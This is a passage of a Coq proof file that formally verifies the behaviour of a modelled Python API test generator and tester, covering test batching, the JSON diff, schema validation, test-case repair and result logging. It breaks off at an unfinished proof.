Qed.

Lemma tests_per_batch_spec (num_tests : Z) :
  1 <= num_tests ->
  Forall (fun c => 1 <= c <= 40) (tests_per_batch num_tests)
  /\ sum_Z (tests_per_batch num_tests) = num_tests
  /\ List.length (tests_per_batch num_tests) = Z.to_nat ((num_tests + 39) / 40).
Proof.
  intros Hn. unfold tests_per_batch, total_batches, batch_size.
  replace (num_tests + 40 - 1) with (num_tests + 39) by lia.
  pose proof (Z.div_mod (num_tests + 39) 40 ltac:(lia)) as Hd.
  pose proof (Z.mod_pos_bound (num_tests + 39) 40 ltac:(lia)) as Hm.
  apply batch_counts_spec; lia.
Qed.

Lemma single_batch_no_client (api_url : string) (sample_data : dict) (num_tests : Z)
      (test_types : list string) (has_auth : bool) (batch_num total : Z) (g : rng)
      (tests : list dict) (used : bool) (g' : rng) :
  _generate_single_batch api_url sample_data num_tests test_types has_auth
    batch_num total None g = Ok (tests, used, g') ->
  used = true.
Proof.
  unfold _generate_single_batch, fallback.
  destruct (_generate_fallback_tests _ _ _ _ _); cbn [bind]; congruence.
Qed.

Lemma run_batches_no_client (api_url : string) (sample_data : dict)
      (test_types : list string) (has_auth : bool) (total : Z) (counts : list Z)
      (batch_idx : nat) (all_tests : list dict) (used : bool) (g : rng)
      (tests : list dict) (used' : bool) (g' : rng) :
  run_batches api_url sample_data test_types has_auth total None counts
    batch_idx all_tests used g = Ok (tests, used', g') ->
  counts <> [] \/ used = true -> used' = true.
Proof.
  revert batch_idx all_tests used g.
  induction counts as [| c counts IH]; intros batch_idx all_tests used g;
    cbn [run_batches option_map].
  - intros [= _ <- _] [Hc | Hu]; [now elim Hc | exact Hu].
  - destruct (_generate_single_batch api_url sample_data c test_types has_auth
                (Z.of_nat batch_idx + 1) total None g) as [[[bt bu] bg] | e] eqn:Eb;
      cbn [bind]; [| discriminate].
    apply single_batch_no_client in Eb as ->.
    intros Er _. apply (IH _ _ _ _ Er). right. apply orb_true_r.
Qed.

Lemma batched_ok (api_url : string) (sample_data : dict) (num_tests : Z)
      (test_types : list string) (has_auth : bool) (client : Client) (g : rng) :
  1 <= num_tests <= PY_SSIZE_T_MAX ->
  exists tests used g',
    _generate_test_cases_batched api_url sample_data num_tests test_types has_auth
      client g = Ok (tests, used, g')
    /\ List.length tests = Z.to_nat num_tests.
Proof.
  intros Hn. unfold _generate_test_cases_batched.
  destruct (tests_per_batch_spec num_tests ltac:(lia)) as (Hf & _ & _).
  destruct (run_batches_ok api_url sample_data test_types has_auth
              (total_batches num_tests) client (tests_per_batch num_tests)
              ltac:(eapply Forall_impl; [| exact Hf]; unfold PY_SSIZE_T_MAX; cbn beta; lia)
              0%nat [] false g) as (all_tests & used & g1 & ->).
  cbn [bind].
  destruct (len all_tests <? num_tests) eqn:E.
  - apply Z.ltb_lt in E.
    destruct (fallback_tests_ok api_url sample_data (num_tests - len all_tests)
                has_auth g1 ltac:(unfold len in *; lia))
      as (c & extra & g2 & _ & -> & Hlen & _).
    cbn [bind fst snd]. eexists _, _, _. split; [reflexivity |].
    apply length_slice_to; [lia |]. rewrite length_app, Hlen. unfold len in *. lia.
  - apply Z.ltb_ge in E. eexists _, _, _. split; [reflexivity |].
    apply length_slice_to; unfold len in *; lia.
Qed.

(** C1, as the code has it.  For every count [num >= 1] and whatever the
    provider does (no client, an error, any reply), [generate_test_cases]
    returns a list of at least [max(1, int(num * 0.8))] and at most [num]
    test cases: exactly [num] when the fallback was used and when
    [num > 50]; and without a client the fallback is used. *)
Theorem generation_returns_at_most_num :
  forall (api_url : string) (sample_data : dict) (num_tests : Z)
         (test_types : option (list string)) (has_auth : bool) (client : Client)
         (g : rng),
    1 <= num_tests <= PY_SSIZE_T_MAX ->
    exists tests used g' m,
      generate_test_cases api_url sample_data num_tests test_types has_auth client g
      = Ok (tests, used, g')
      /\ min_acceptable num_tests = Ok m
      /\ m <= len tests <= num_tests
      /\ (used = true -> len tests = num_tests)
      /\ (50 < num_tests -> len tests = num_tests)
      /\ (client = None -> used = true).
Proof.
  intros api_url sample_data num_tests test_types has_auth client g Hn.
  destruct (min_acceptable_ok num_tests Hn) as (m & Em & Hm).
  unfold generate_test_cases.
  destruct (50 <? num_tests) eqn:E50.
  - apply Z.ltb_lt in E50.
    destruct (batched_ok api_url sample_data num_tests
                (match test_types with
                 | Some types => types
                 | None => ["happy_path"; "edge_cases"; "negative_tests"; "security_tests"]
                 end) has_auth client g Hn) as (tests & used & g' & Eb & Hlen).
    exists tests, used, g', m. split; [exact Eb |]. split; [exact Em |].
    assert (len tests = num_tests) by (unfold len; lia).
    repeat split; try lia.
    intros ->. revert Eb. unfold _generate_test_cases_batched.
    destruct (run_batches _ _ _ _ _ None _ _ _ _ _) as [[[a u] g1] | e] eqn:Er;
      cbn [bind]; [| discriminate].
    destruct (len a <? num_tests) eqn:El.
    + destruct (_generate_fallback_tests _ _ _ _ _); cbn [bind]; congruence.
    + intros [= <- <- <-].
      destruct (tests_per_batch_spec num_tests ltac:(lia)) as (Hf & Hs & _).
      apply (run_batches_no_client _ _ _ _ _ _ _ _ _ _ _ _ _ Er).
      left. intros Et. rewrite Et in Hs. simpl in Hs. lia.
  - apply Z.ltb_ge in E50.
    destruct (fallback_ok api_url sample_data num_tests has_auth g ltac:(lia))
      as (ft & fg & Ef & Hlen).
    assert (Hfall : exists tests used g' m,
               fallback api_url sample_data num_tests has_auth g = Ok (tests, used, g')
               /\ min_acceptable num_tests = Ok m
               /\ m <= len tests <= num_tests
               /\ (used = true -> len tests = num_tests)
               /\ (50 < num_tests -> len tests = num_tests)
               /\ (client = None -> used = true)).
    { exists ft, true, fg, m. unfold len. repeat split; try assumption; lia. }
    destruct client as [replies |]; [| exact Hfall].
    destruct (attempts max_retries 0 num_tests replies) as [tests |] eqn:Ea;
      [| exact Hfall].
    pose proof (attempts_return max_retries 0 num_tests replies tests m
                  ltac:(lia) Em ltac:(lia) Ea) as Hr.
    exists tests, false, g, m. repeat split; try assumption; try lia; discriminate.
Qed.

End GeneratorFacts.

(** C1 as stated fails: asked for 10 tests, with a provider that replies
    with 8 valid items, the generation returns these 8 and no more. *)
Lemma generation_returns_eight_of_ten :
  returned_length
    (generate_test_cases (H := plain_builtins) "http://example.com" [] 10 None false
       (Some (replies_with 8)) [])
  = Some (8%nat, false).
Proof. vm_compute. reflexivity. Qed.

Lemma generation_returns_at_most_num_witness :
  exists tests used g' m,
    generate_test_cases (H := plain_builtins) "http://example.com" [("id", JInt 1)]
      10 None false (Some (replies_with 9)) [1; 2; 3]%nat = Ok (tests, used, g')
    /\ min_acceptable 10 = Ok m
    /\ m <= len tests <= 10
    /\ (used = true -> len tests = 10)
    /\ (50 < 10 -> len tests = 10)
    /\ (Some (replies_with 9) = None -> used = true).
Proof.
  apply (generation_returns_at_most_num (H := plain_builtins) "http://example.com"
           [("id", JInt 1)] 10 None false (Some (replies_with 9)) [1; 2; 3]%nat).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

(* ================================================================== *)
(** * Further properties of the code *)

(** ** The deep diff reports every inequality *)

Lemma flat_map_nil_inv {A B : Type} (f : A -> list B) (l : list A) :
  flat_map f l = [] -> forall x, In x l -> f x = [].
Proof.
  induction l as [| a l IH]; simpl; [easy |].
  intros E x [<- | Hx]; apply app_eq_nil in E as [Ea El]; auto.
Qed.

Lemma nodup_keys_NoDup (l : list string) : nodup_keys l = true -> NoDup l.
Proof.
  induction l as [| k l IH]; simpl; [constructor |].
  intros E. apply andb_prop in E as [Hk Hl]. constructor; [| auto].
  intros Hin. apply mem_string_In in Hin. rewrite Hin in Hk. discriminate.
Qed.

Lemma dict_get_In {A : Type} (d : list (string * A)) (k : string) (v : A) :
  dict_get k d = Some v -> In (k, v) d.
Proof.
  induction d as [| [k' v'] d IH]; simpl; [discriminate |].
  destruct (String.eqb_spec k k') as [-> | _]; [intros [= ->]; now left | auto].
Qed.

Lemma dict_has_In_key {A : Type} (d : list (string * A)) (k : string) :
  dict_has k d = true -> In k (map fst d).
Proof.
  unfold dict_has. destruct (dict_get k d) as [v |] eqn:E; [| discriminate].
  intros _. apply dict_get_In in E. apply in_map_iff. now exists (k, v).
Qed.

Lemma diff_sound (X : json) :
  forall (Y : json) (p : string),
    json_wf X = true -> json_wf Y = true ->
    find_json_differences X Y p = [] -> py_eq X Y = true.
Proof.
  induction X as [ | b | n | x | s | xs IH | kvs IH ] using json_induction;
    intros Y p HwX HwY; destruct Y as [ | b' | n' | x' | s' | ys | kvs' ];
    try discriminate.
  - reflexivity.
  - intros E. destruct (py_eq (JBool b) (JBool b')) eqn:Ec; [reflexivity |].
    cbn in E, Ec. rewrite Ec in E. discriminate.
  - intros E. destruct (py_eq (JInt n) (JInt n')) eqn:Ec; [reflexivity |].
    cbn in E, Ec. rewrite Ec in E. discriminate.
  - intros E. destruct (py_eq (JFloat x) (JFloat x')) eqn:Ec; [reflexivity |].
    cbn in E, Ec. rewrite Ec in E. discriminate.
  - intros E. destruct (py_eq (JStr s) (JStr s')) eqn:Ec; [reflexivity |].
    cbn in E, Ec. rewrite Ec in E. discriminate.
  - cbn [find_json_differences type_of py_type_eqb negb].
    destruct (Nat.eqb (List.length xs) (List.length ys)) eqn:El; [| discriminate].
    cbn [negb]. cbn [json_wf] in HwX, HwY. cbn [py_eq].
    apply Nat.eqb_eq in El. revert HwX ys El HwY. generalize 0%nat.
    induction IH as [| v xs Hv _ IHxs]; intros i HwX [| y ys] El HwY;
      try discriminate El; try reflexivity.
    injection El as El. cbn [forallb] in HwX, HwY. apply andb_prop in HwX as [Hv1 Hxs], HwY as [Hy Hys].
    intros E. apply app_eq_nil in E as [E1 E2].
    rewrite (Hv y _ Hv1 Hy E1). now apply (IHxs (S i) Hxs ys El Hys).
  - cbn [find_json_differences type_of py_type_eqb negb].
    cbn [json_wf] in HwX, HwY.
    apply andb_prop in HwX as [HkX HwX], HwY as [HkY HwY].
    rewrite forallb_forall in HwX, HwY. rewrite Forall_forall in IH.
    intros E. apply app_eq_nil in E as [E1 E2].
    pose proof (flat_map_nil_inv _ _ E1) as H1. pose proof (flat_map_nil_inv _ _ E2) as H2.
    clear E1 E2. cbn beta in H1, H2.
    assert (Hent : forall kv, In kv kvs ->
               exists c, dict_get (fst kv) kvs' = Some c /\ py_eq (snd kv) c = true).
    { intros kv Hin. specialize (H1 kv Hin).
      destruct (dict_get (fst kv) kvs') as [c |] eqn:Ec; [| discriminate].
      exists c. split; [reflexivity |].
      apply (IH kv Hin c (key_path p (fst kv)) (HwX kv Hin)); [| exact H1].
      apply dict_get_In in Ec. exact (HwY (fst kv, c) Ec). }
    cbn [py_eq]. apply andb_true_intro. split.
    + apply Nat.eqb_eq. apply Nat.le_antisymm.
      * rewrite <- (length_map fst kvs), <- (length_map fst kvs').
        apply NoDup_incl_length; [now apply nodup_keys_NoDup |].
        intros k Hk. apply in_map_iff in Hk as (kv & <- & Hin).
        destruct (Hent kv Hin) as (c & Ec & _).
        apply dict_get_In in Ec. apply in_map_iff. now exists (fst kv, c).
      * rewrite <- (length_map fst kvs), <- (length_map fst kvs').
        apply NoDup_incl_length; [now apply nodup_keys_NoDup |].
        intros k Hk. apply in_map_iff in Hk as (kv & <- & Hin).
        specialize (H2 kv Hin).
        destruct (dict_has (fst kv) kvs) eqn:Eh; [| discriminate].
        now apply dict_has_In_key.
    + apply forallb_forall. intros kv Hin.
      destruct (Hent kv Hin) as (c & -> & Hc). exact Hc.
Qed.

(** X1.  The diff is sound: when [find_json_differences] reports nothing
    for two documents (dictionaries with distinct keys), the two are equal
    under Python's [==].  So whenever the regression check finds the current
    body unequal to the baseline, the list of differences it stores is not
    empty. *)
Theorem no_difference_means_equal :
  forall (X Y : json) (p : string),
    json_wf X = true -> json_wf Y = true ->
    find_json_differences X Y p = [] -> py_eq X Y = true.
Proof.
  intros X Y p. exact (diff_sound X Y p).
Qed.

Lemma no_difference_means_equal_witness :
  py_eq (JObj [("a", JInt 1); ("b", JArr [JInt 2; JNull])])
        (JObj [("b", JArr [JInt 2; JNull]); ("a", JInt 1)]) = true.
Proof.
  apply (no_difference_means_equal
           (JObj [("a", JInt 1); ("b", JArr [JInt 2; JNull])])
           (JObj [("b", JArr [JInt 2; JNull]); ("a", JInt 1)]) "");
    reflexivity.
Defined.

(** ** What the schema validator accepts *)

Section ValidatorFacts.
Context `{Builtins}.

Lemma check_required_clean (required : list json) (fields : dict) :
  forallb isinstance_str required = true ->
  exists errs,
    check_required required fields = (errs, Ok tt)
    /\ (errs = [] <-> forall f, In (JStr f) required -> dict_has f fields = true).
Proof.
  induction required as [| v required IH]; cbn [forallb]; intros Hs.
  - exists []. split; [reflexivity |]. split; [intros _ f [] | reflexivity].
  - apply andb_prop in Hs as [Hv Hs].
    destruct (IH Hs) as (errs & E & Hiff).
    destruct v as [ | | | | s | | ]; try discriminate.
    cbn [check_required py_in_dict lift lbind]. rewrite E.
    destruct (dict_has s fields) eqn:G; cbn.
    + exists errs. split; [reflexivity |]. rewrite Hiff. split.
      * intros Hall f [[= <-] | Hin]; [exact G | now apply Hall].
      * intros Hall f Hin. apply Hall. now right.
    + eexists. split; [reflexivity |]. split; [discriminate |].
      intros Hall. specialize (Hall s (or_introl eq_refl)). congruence.
Qed.

Lemma check_properties_clean (items fields : dict) :
  check_properties items fields = ([], Ok tt)
  <-> forall f fs v, In (f, fs) items -> dict_get f fields = Some v ->
                     validate_field v fs (JStr f) = Ok [].
Proof.
  induction items as [| [k s] items IH]; cbn [check_properties].
  - split; [intros _ f fs v [] | reflexivity].
  - destruct (dict_get k fields) as [value |] eqn:G.
    + destruct (validate_field value s (JStr k)) as [[| e errs] | e] eqn:Ev; cbn.
      * destruct (check_properties items fields) as [errs' r]. cbn.
        split.
        -- intros [= -> ->]. intros f fs v [[= <- <-] | Hin] Hv.
           ++ rewrite G in Hv. injection Hv as <-. exact Ev.
           ++ apply (proj1 IH eq_refl f fs v Hin Hv).
        -- intros Hall.
           assert (E : (errs', r) = ([], Ok tt)).
           { apply IH. intros f fs v Hin Hv. apply (Hall f fs v); [now right | exact Hv]. }
           now injection E as -> ->.
      * destruct (check_properties items fields) as [errs' r]. cbn.
        split; [discriminate |]. intros Hall.
        specialize (Hall k s value (or_introl eq_refl) G). congruence.
      * split; [discriminate |]. intros Hall.
        specialize (Hall k s value (or_introl eq_refl) G). congruence.
    + cbn. destruct (check_properties items fields) as [errs' r]. cbn.
      split.
      * intros E. intros f fs v [[= <- <-] | Hin] Hv; [congruence |].
        apply (proj1 IH E f fs v Hin Hv).
      * intros Hall. apply IH. intros f fs v Hin Hv.
        apply (Hall f fs v); [now right | exact Hv].
Qed.

Lemma validation_passes_clean (schema fields props : dict) (required : list json) :
  dict_get "type" schema = Some (JStr "object") ->
  py_get (JObj schema) "required" (JArr []) = Ok (JArr required) ->
  forallb isinstance_str required = true ->
  py_get (JObj schema) "properties" (JObj []) = Ok (JObj props) ->
  (validate_against_schema (JObj fields) (JObj schema) = []
   <-> (forall f, In (JStr f) required -> dict_has f fields = true)
       /\ (forall f fs v, In (f, fs) props -> dict_get f fields = Some v ->
                          validate_field v fs (JStr f) = Ok [])).
Proof.
  intros Ht Hr Hs Hp.
  unfold validate_against_schema, validate_against_schema_try.
  cbn [py_get lift lbind]. rewrite Ht. cbn [py_eq String.eqb Ascii.eqb Bool.eqb].
  change (String.eqb "object" "object") with true. cbv iota.
  cbn [py_get] in Hr, Hp. injection Hr as Hr. injection Hp as Hp. rewrite Hr, Hp.
  cbn [py_iter app].
  destruct (check_required_clean required fields Hs) as (errs & E & Hiff).
  rewrite E. cbn [py_items app lbind lift].
  pose proof (check_properties_clean props fields) as Hprops.
  destruct (check_properties props fields) as [perrs [[] | e]]; cbn.
  - rewrite ?app_nil_r. split.
    + intros Eall. apply app_eq_nil in Eall as [-> ->].
      split; [now apply Hiff | now apply Hprops].
    + intros [Hreq Hfs]. apply Hiff in Hreq as ->.
      apply Hprops in Hfs. now injection Hfs as ->.
  - split.
    + intros Eall. apply app_eq_nil in Eall as [_ Habs]. discriminate.
    + intros [_ Hfs]. apply Hprops in Hfs. discriminate.
Qed.

(** X2.  What [validate_against_schema] accepts.  For a schema of type
    [object] whose [required] is a list of names and whose [properties] is
    a dictionary, a dictionary [fields] gets no violation exactly when every
    required name is a key of it and every property it has passes
    [validate_field]; a property it lacks is not looked at. *)
Theorem validation_passes_iff :
  forall (schema fields props : dict) (required : list json),
    dict_get "type" schema = Some (JStr "object") ->
    py_get (JObj schema) "required" (JArr []) = Ok (JArr required) ->
    forallb isinstance_str required = true ->
    py_get (JObj schema) "properties" (JObj []) = Ok (JObj props) ->
    (validate_against_schema (JObj fields) (JObj schema) = []
     <-> (forall f, In (JStr f) required -> dict_has f fields = true)
         /\ (forall f fs v, In (f, fs) props -> dict_get f fields = Some v ->
                            validate_field v fs (JStr f) = Ok [])).
Proof.
  intros schema fields props required.
  exact (validation_passes_clean schema fields props required).
Qed.
End ValidatorFacts.

Lemma validation_passes_witness :
  validate_against_schema (H := plain_builtins)
    (JObj [("name", JStr "x"); ("extra", JInt 3)])
    (JObj [("type", JStr "object"); ("required", JArr [JStr "name"]);
           ("properties", JObj [("name", JObj [("type", JStr "string")]);
                                ("age", JObj [("type", JStr "integer")])])])
  = []
  <-> (forall f, In (JStr f) [JStr "name"] ->
                 dict_has f [("name", JStr "x"); ("extra", JInt 3)] = true)
      /\ (forall f fs v,
             In (f, fs) [("name", JObj [("type", JStr "string")]);
                         ("age", JObj [("type", JStr "integer")])] ->
             dict_get f [("name", JStr "x"); ("extra", JInt 3)] = Some v ->
             validate_field (H := plain_builtins) v fs (JStr f) = Ok []).
Proof.
  apply (validation_passes_iff (H := plain_builtins)
           [("type", JStr "object"); ("required", JArr [JStr "name"]);
            ("properties", JObj [("name", JObj [("type", JStr "string")]);
                                 ("age", JObj [("type", JStr "integer")])])]
           [("name", JStr "x"); ("extra", JInt 3)]
           [("name", JObj [("type", JStr "string")]);
            ("age", JObj [("type", JStr "integer")])]
           [JStr "name"]); reflexivity.
Defined.

(** ** Fixing a test case of the provider *)

Lemma dict_get_setdefault_same {A : Type} (k : string) (v : A) (d : list (string * A)) :
  dict_get k (dict_setdefault k v d)
  = Some (match dict_get k d with Some x => x | None => v end).
Proof.
  unfold dict_setdefault, dict_has.
  destruct (dict_get k d) as [x |] eqn:E; [exact E | apply dict_get_set_same].
Qed.

Lemma dict_get_setdefault_kept {A : Type} (k k' : string) (v x : A) (d : list (string * A)) :
  dict_get k d = Some x -> dict_get k (dict_setdefault k' v d) = Some x.
Proof.
  intros E. destruct (String.eqb_spec k k') as [<- | Hn].
  - now rewrite dict_get_setdefault_same, E.
  - now rewrite dict_get_setdefault_other.
Qed.

Lemma dict_has_set {A : Type} (k k' : string) (v : A) (d : list (string * A)) :
  dict_has k (dict_set k' v d) = String.eqb k k' || dict_has k d.
Proof.
  unfold dict_has. destruct (String.eqb_spec k k') as [-> | Hn].
  - now rewrite dict_get_set_same.
  - now rewrite dict_get_set_other.
Qed.

Lemma dict_has_setdefault {A : Type} (k k' : string) (v : A) (d : list (string * A)) :
  dict_has k (dict_setdefault k' v d) = String.eqb k k' || dict_has k d.
Proof.
  unfold dict_has at 1. destruct (String.eqb_spec k k') as [-> | Hn].
  - now rewrite dict_get_setdefault_same.
  - rewrite dict_get_setdefault_other by exact Hn. reflexivity.
Qed.

Section FixFacts.
Context `{Builtins}.

Lemma with_defaults_keeps (tc : dict) (k : string) (v : json) :
  dict_get k tc = Some v -> dict_get k (with_defaults tc) = Some v.
Proof.
  intros E. unfold with_defaults. change default_key with (@dict_setdefault json).
  now repeat apply dict_get_setdefault_kept.
Qed.

Lemma with_defaults_has (tc : dict) :
  forallb (fun k => dict_has k (with_defaults tc)) fixed_keys = true.
Proof.
  unfold with_defaults, fixed_keys. change default_key with (@dict_setdefault json).
  cbn [forallb]. rewrite !dict_has_setdefault. cbn.
  rewrite ?orb_true_r. reflexivity.
Qed.

Lemma with_defaults_method (tc : dict) :
  get_or (with_defaults tc) "method" JNull = get_or tc "method" (JStr "GET").
Proof.
  unfold get_or at 1. unfold with_defaults. change default_key with (@dict_setdefault json).
  rewrite !dict_get_setdefault_other by discriminate.
  rewrite dict_get_setdefault_same. reflexivity.
Qed.

Lemma with_defaults_status (tc : dict) :
  get_or (with_defaults tc) "expected_status" JNull = get_or tc "expected_status" (JInt 200).
Proof.
  unfold get_or at 1. unfold with_defaults. change default_key with (@dict_setdefault json).
  rewrite !dict_get_setdefault_other by discriminate.
  rewrite dict_get_setdefault_same.
  rewrite dict_get_setdefault_other by discriminate. reflexivity.
Qed.

Lemma fix_unfold (tc : dict) :
  _validate_and_fix_test_case tc
  = match get_or tc "method" (JStr "GET") with
    | JStr method =>
        let tc' := dict_set "method" (JStr (py_upper method)) (with_defaults tc) in
        match py_int (get_or tc "expected_status" (JInt 200)) with
        | Ok n => Ok (dict_set "expected_status" (JInt n) tc')
        | Raise (ValueError _) | Raise (TypeError _) =>
            Ok (dict_set "expected_status" (JInt 200) tc')
        | Raise e => Raise e
        end
    | v => Raise (no_attribute v "upper")
    end.
Proof.
  unfold _validate_and_fix_test_case. fold (with_defaults tc).
  rewrite with_defaults_method.
  destruct (get_or tc "method" (JStr "GET")); try reflexivity.
  cbn zeta. unfold get_or at 1.
  rewrite dict_get_set_other by discriminate.
  fold (get_or (with_defaults tc) "expected_status" JNull).
  now rewrite with_defaults_status.
Qed.

(** X3.  What [_validate_and_fix_test_case] hands back.  When it returns,
    the test case has all eight keys the runner reads, its method is the
    upper-cased string that was given (or [GET]), its expected status is an
    integer, and every other key that was there keeps its value. *)
Theorem fixed_test_case_is_complete :
  forall (tc tc' : dict),
    _validate_and_fix_test_case tc = Ok tc' ->
    forallb (fun k => dict_has k tc') fixed_keys = true
    /\ (exists method,
           get_or tc "method" (JStr "GET") = JStr method
           /\ dict_get "method" tc' = Some (JStr (py_upper method)))
    /\ (exists n, dict_get "expected_status" tc' = Some (JInt n))
    /\ (forall k v, k <> "method" -> k <> "expected_status" ->
                    dict_get k tc = Some v -> dict_get k tc' = Some v).
Proof.
  intros tc tc'. rewrite fix_unfold.
  destruct (get_or tc "method" (JStr "GET")) as [ | | | | method | | ]; try discriminate.
  cbn zeta.
  assert (Hgen : forall n,
             forallb (fun k => dict_has k
                        (dict_set "expected_status" (JInt n)
                           (dict_set "method" (JStr (py_upper method)) (with_defaults tc))))
                     fixed_keys = true
             /\ (exists m, JStr method = JStr m
                   /\ dict_get "method"
                        (dict_set "expected_status" (JInt n)
                           (dict_set "method" (JStr (py_upper method)) (with_defaults tc)))
                      = Some (JStr (py_upper m)))
             /\ (exists n', dict_get "expected_status"
                        (dict_set "expected_status" (JInt n)
                           (dict_set "method" (JStr (py_upper method)) (with_defaults tc)))
                      = Some (JInt n'))
             /\ (forall k v, k <> "method" -> k <> "expected_status" ->
                   dict_get k tc = Some v ->
                   dict_get k (dict_set "expected_status" (JInt n)
                           (dict_set "method" (JStr (py_upper method)) (with_defaults tc)))
                   = Some v)).
  { intros n. split; [| split; [| split]].
    - pose proof (with_defaults_has tc) as Hh. unfold fixed_keys in *.
      cbn [forallb] in *. rewrite !dict_has_set.
      repeat (apply andb_prop in Hh as [?E Hh]).
      repeat (apply andb_true_intro; split); try (rewrite ?E, ?E0, ?E1, ?E2, ?E3, ?E4, ?E5, ?E6;
        rewrite ?orb_true_r; reflexivity).
    - exists method. split; [reflexivity |].
      rewrite dict_get_set_other by discriminate. apply dict_get_set_same.
    - exists n. apply dict_get_set_same.
    - intros k v Hk1 Hk2 Hv. rewrite !dict_get_set_other by assumption.
      now apply with_defaults_keeps. }
  destruct (py_int (get_or tc "expected_status" (JInt 200))) as [n | [m | m | m | m]];
    try discriminate; intros [= <-]; apply Hgen.
Qed.

(** X4.  When [_validate_and_fix_test_case] raises, so that the item is
    dropped from the provider's list: exactly when a [method] is given that
    is not a string, or the [expected_status] given is an infinite float.
    Every other status that [int] refuses is replaced by 200: when a status
    is given that [int] refuses and the call returns, the test case it
    returns has 200 for its expected status. *)
Theorem fix_raises_iff :
  forall (tc : dict),
    (is_ok (_validate_and_fix_test_case tc) = false
     <-> (exists v, dict_get "method" tc = Some v /\ isinstance_str v = false)
         \/ (exists v, dict_get "expected_status" tc = Some v /\ infinite v = true))
    /\ (forall (v : json) (tc' : dict),
          dict_get "expected_status" tc = Some v ->
          is_ok (py_int v) = false ->
          _validate_and_fix_test_case tc = Ok tc' ->
          dict_get "expected_status" tc' = Some (JInt 200)).
Proof.
  intros tc. split.
  - rewrite fix_unfold. unfold get_or.
    destruct (dict_get "method" tc) as [[ | b | n | x | method | xs | kvs ] |] eqn:Em;
      cbn zeta;
      try (cbn; split; [intros _; left; eexists; split; reflexivity | reflexivity]);
      (destruct (dict_get "expected_status" tc)
         as [[ | b' | n' | [s | s | | s m e] | str | xs' | kvs' ] |] eqn:Es;
       cbn; try (destruct (py_int_of_str str); cbn);
       (split;
        [ intros Hf; try discriminate Hf; right; eexists; split; reflexivity
        | intros [(v & Hv & Hi) | (v & Hv & Hi)];
          try discriminate Hv; injection Hv as <-; try discriminate Hi; reflexivity ])).
  - intros v tc' Hv Hi. rewrite fix_unfold.
    destruct (get_or tc "method" (JStr "GET")); try discriminate.
    cbn zeta. unfold get_or. rewrite Hv.
    destruct (py_int v) as [n | [m | m | m | m]]; try discriminate;
      intros [= <-]; apply dict_get_set_same.
Qed.
End FixFacts.

Lemma fix_raises_witness :
  exists tc' : dict,
    _validate_and_fix_test_case (H := plain_builtins)
      [("method", JStr "GET"); ("expected_status", JStr "two hundred")] = Ok tc'
    /\ dict_get "expected_status" tc' = Some (JInt 200).
Proof.
  eexists. split; [reflexivity |].
  apply (proj2 (fix_raises_iff (H := plain_builtins)
                  [("method", JStr "GET"); ("expected_status", JStr "two hundred")])
           (JStr "two hundred")); reflexivity.
Defined.

Lemma fixed_test_case_witness :
  forallb (fun k => dict_has k
             [("endpoint", JStr "/users"); ("method", JStr "POST");
              ("expected_status", JInt 1); ("description", JStr "POST test");
              ("data", JNull); ("category", JStr "other"); ("params", JNull);
              ("validate_body", JBool false)]) fixed_keys = true.
Proof.
  apply (fixed_test_case_is_complete (H := plain_builtins)
           [("endpoint", JStr "/users"); ("method", JStr "POST");
            ("expected_status", JBool true)]).
  reflexivity.
Defined.

(** ** The verdict of the tester and the summary of a run *)

Section VerdictFacts.
Context `{Builtins}.

Lemma test_request_verdict self w method endpoint data expected_status headers name
      params expected_body expected_schema validate_body :
  match test_request self w method endpoint data expected_status headers name
          params expected_body expected_schema validate_body with
  | Returns (self', _) =>
      exists r,
        results self' = results self ++ [r]
        /\ (status r = PASS <->
            request_passes (met_by self w) method expected_status expected_body
              expected_schema validate_body = true)
  | Escapes _ => True
  end.
Proof.
  unfold test_request, request_passes, met_by. cbn [outcome].
  destruct (_get_headers self headers) as [hs | e]; [| exact I].
  destruct (supported_method method); cbn [negb andb].
  - destruct (http_call self w) as [response | | msg | e].
    + destruct (status_match (status_code response) expected_status);
        destruct (py_truthy validate_body); cbn [andb negb orb];
        [ destruct (_validate_response_body response expected_body expected_schema)
            as [[[|] msg] | e] | | | ];
        cbn [andb]; try exact I; rewrite results_log_result;
        eexists; (split; [reflexivity |]); cbn [status]; easy.
    + rewrite results_log_result; eexists;
        (split; [reflexivity |]); cbn [status]; easy.
    + rewrite results_log_result; eexists;
        (split; [reflexivity |]); cbn [status]; easy.
    + exact I.
  - rewrite results_log_result; eexists;
      (split; [reflexivity |]); cbn [status]; easy.
Qed.

(** X5.  The log and the return value of [test_request] agree, whatever the
    method and however the call ends.  Either an exception escapes and
    nothing is logged: the headers cannot be built, the call raises
    something that is no [RequestException], or the schema check of a
    matching response raises something that is no [ValidationError].  Or the
    call returns and has appended one result: the result is PASS exactly
    when the method is supported, the call is answered, the status matches
    and the body, if checked, is valid; the response is returned exactly
    then, and [None] otherwise; the result carries the status code and the
    time exactly when it is PASS; and an analysis is attached only to a
    failure of a supported method with the analyzer on. *)
Theorem test_request_result_and_log :
  forall (self : APITester) (w : World)
         (method endpoint data expected_status : json) (headers : option dict)
         (name : option string)
         (params expected_body expected_schema validate_body : json),
    match test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body with
    | Returns (self', returned) =>
        exists r,
          results self' = results self ++ [r]
          /\ (status r = PASS <->
              request_passes (met_by self w) method expected_status expected_body
                expected_schema validate_body = true)
          /\ returned = match status r, http_call self w with
                        | PASS, Responded response => Some response
                        | _, _ => None
                        end
          /\ (response_data r <> None <-> status r = PASS)
          /\ (ai_analysis r <> None ->
              status r = FAIL /\ analyzer_on self = true
              /\ supported_method method = true)
    | Escapes e =>
        (exists e', e = PyError e' /\ _get_headers self headers = Raise e')
        \/ (exists request_headers,
              _get_headers self headers = Ok request_headers
              /\ supported_method method = true
              /\ (http_call self w = Raises e
                  \/ exists response,
                       http_call self w = Responded response
                       /\ py_truthy validate_body = true
                       /\ status_match (status_code response) expected_status = true
                       /\ _validate_response_body response expected_body
                            expected_schema = Escapes e))
    end
    /\ (forall e', _get_headers self headers = Raise e' ->
          test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body
          = Escapes (PyError e'))
    /\ (forall request_headers e,
          _get_headers self headers = Ok request_headers ->
          supported_method method = true -> http_call self w = Raises e ->
          test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body
          = Escapes e)
    /\ (forall request_headers response e,
          _get_headers self headers = Ok request_headers ->
          supported_method method = true ->
          http_call self w = Responded response ->
          py_truthy validate_body = true ->
          status_match (status_code response) expected_status = true ->
          _validate_response_body response expected_body expected_schema = Escapes e ->
          test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body
          = Escapes e).
Proof.
